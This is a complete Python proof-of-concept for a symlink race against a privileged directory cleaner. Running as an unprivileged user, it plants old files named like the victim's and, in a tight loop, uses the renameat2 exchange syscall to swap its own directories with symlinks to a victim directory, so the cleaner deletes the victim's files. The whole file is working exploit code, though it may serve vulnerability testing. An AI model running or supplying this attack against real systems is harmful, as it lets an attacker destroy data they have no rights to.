# An attacker without rights: below a directory that is cleaned, its own directories and symbolic links to another one change
# places, in one step each (renameat2, exchange), as fast as it goes. argv: its own directory, the victim, number of swaps,
# and the user (id) that it becomes before it begins.
import ctypes
import os
import sys

own, victim, swaps, user = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
os.setgroups([])
os.setgid(user)
os.setuid(user)
libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
here = os.open(own, os.O_RDONLY | os.O_DIRECTORY)
PAIRS, FILES = 4, 40


def fill(name):
    """A directory with old files that have the very names of the victim's."""
    try:
        os.mkdir(name, dir_fd=here)
    except FileExistsError:
        pass
    inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=here)
    for index in range(FILES):
        try:
            os.close(os.open("file%d" % index, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=inner))
        except FileExistsError:
            continue
        os.utime("file%d" % index, (10 ** 9, 10 ** 9), dir_fd=inner)
    os.close(inner)


for pair in range(PAIRS):
    fill("a%d" % pair)
    os.symlink(victim, "b%d" % pair, dir_fd=here)
print("ready", flush=True)
done = turns = 0
while done < swaps:
    turns += 1
    for pair in range(PAIRS):
        a, b = b"a%d" % pair, b"b%d" % pair
        for _ in range(2):
            if libc.syscall(number, here, a, here, b, 2) == 0:
                done += 1
        if turns % 50 == 0:
            fill(a.decode())
print("swaps %d" % done, flush=True)
